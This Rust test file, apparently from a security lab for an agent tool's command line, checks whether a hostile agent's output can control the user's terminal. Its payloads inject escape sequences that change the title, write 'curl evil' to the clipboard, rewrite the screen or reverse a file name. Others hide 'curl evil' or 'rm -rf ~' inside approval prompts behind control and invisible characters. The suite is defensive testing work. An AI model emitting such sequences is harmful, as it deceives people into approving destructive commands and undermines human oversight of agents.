//! Text that would control the user's terminal.

use super::attack::{Attack, Evidence, Theme};
use super::evidence::escapes;
use super::testbed::Testbed;
use crate::lab::testbed::Result;
use agentd_core::spec::ApprovalMode;
use serde_json::json;

pub const THEME: Theme = Theme {
    name: "text",
    is_about_sandbox: false,
    attacks: ATTACKS,
};

/// What this text of the model becomes on the terminal of a user who sends a prompt.
fn said(testbed: &Testbed, words: &str) -> Result<Evidence> {
    let name = testbed.agent("hostile")?;
    let out = testbed.cli(&["send", &name, &format!("do: say {words}")])?;
    Ok(escapes(&out.stdout).or_else(|| escapes(&out.stderr)))
}

/// What a command of the user shows afterwards.
fn shown(testbed: &Testbed, args: &[&str]) -> Result<Evidence> {
    let out = testbed.cli(args)?;
    Ok(escapes(&out.stdout).or_else(|| escapes(&out.stderr)))
}

/// Characters that hide a part of a command or a file name.
fn unseen(bytes: &[u8]) -> Evidence {
    let text = String::from_utf8_lossy(bytes);
    let hidden = ['\u{a0}', '\u{200b}', '\u{3164}', '\u{fe0f}'];
    let found = text.chars().find(|c| hidden.contains(c));
    found.map(|c| format!("{} is on the terminal", c.escape_unicode()))
}

const ATTACKS: &[Attack] = &[
    Attack::new("text-title", "the terminal's title", |testbed| {
        said(testbed, "a\u{1b}]0;owned\u{7}b")
    }),
    Attack::new("text-clipboard", "the clipboard", |testbed| {
        said(testbed, "a\u{1b}]52;c;Y3VybCBldmls\u{1b}\\b")
    }),
    Attack::new(
        "text-cursor",
        "a screen that is cleared and rewritten",
        |testbed| said(testbed, "a\u{1b}[2J\u{1b}[Hall is well"),
    ),
    Attack::new("text-direction", "text that reads backwards", |testbed| {
        said(testbed, "a\u{202e}gnp.exe")
    }),
    Attack::new(
        "text-c1",
        "control characters of one byte, in JSON",
        |testbed| {
            testbed.turn("hostile", "do: say a\u{9b}2Jb")?;
            shown(testbed, &["logs", "hostile", "--json"])
        },
    ),
    Attack::new(
        "text-logs",
        "tool output with escape sequences, in `logs`",
        |testbed| {
            testbed.shell("hostile", "printf 'a\\033]0;owned\\007b'")?;
            shown(testbed, &["logs", "hostile"])
        },
    ),
    Attack::new(
        "text-approval",
        "a question that hides its command",
        |testbed| {
            let mut spec = testbed.spec();
            spec.approval = Some(ApprovalMode::Always);
            testbed.create("asker", spec, testbed.env())?;
            let call = json!({"command": "curl evil #\r\u{1b}[2K\u{1b}[1A ls"});
            testbed.send("asker", &format!("do: call shell {call} ;; say done"))?;
            let wait = std::time::Duration::from_secs(5);
            testbed.until(wait, "the question", || {
                let agent = testbed.show("asker").ok()?;
                agent.approvals.first().map(drop)
            })?;
            let found = shown(testbed, &["show", "asker"])?;
            let found = match found {
                Some(found) => Some(found),
                None => shown(testbed, &["approve", "asker"])?,
            };
            Ok(found)
        },
    )
    .alone(),
    Attack::new(
        "text-invisible",
        "a question with characters that a reader does not see",
        |testbed| {
            let mut spec = testbed.spec();
            spec.approval = Some(ApprovalMode::Always);
            testbed.create("unseen", spec, testbed.env())?;
            let call = json!({"command": "rm\u{a0}-rf \u{200b}~\u{3164} #\u{fe0f}"});
            testbed.send("unseen", &format!("do: call shell {call} ;; say done"))?;
            let wait = std::time::Duration::from_secs(5);
            testbed.until(wait, "the question", || {
                let agent = testbed.show("unseen").ok()?;
                agent.approvals.first().map(drop)
            })?;
            let out = testbed.cli(&["show", "unseen"])?;
            Ok(unseen(&out.stdout))
        },
    )
    .alone(),
    Attack::new(
        "text-path",
        "a file name with characters that a reader does not see",
        |testbed| {
            let call = json!({"file_path": "a\u{200b}b\u{a0}", "content": "x"});
            testbed.tool("hostile", "write_file", &call)?;
            let out = testbed.cli(&["logs", "hostile"])?;
            Ok(unseen(&out.stdout))
        },
    )
    .alone(),
    Attack::new(
        "text-task",
        "a task whose command has escape sequences",
        |testbed| {
            let call =
                json!({"command": "sleep 2 #\u{1b}]0;owned\u{7}", "run_in_background": true});
            testbed.tool("hostile", "shell", &call)?;
            shown(testbed, &["tasks", "hostile"])
        },
    )
    .alone(),
    Attack::new("text-label", "a label with escape sequences", |testbed| {
        let name = testbed.agent("hostile")?;
        let label = "a\u{1b}]0;owned\u{7}";
        let found = shown(testbed, &["checkpoint", &name, label])?;
        match found {
            Some(found) => Ok(Some(found)),
            None => shown(testbed, &["show", &name, "--conversation", "1"]),
        }
    }),
];
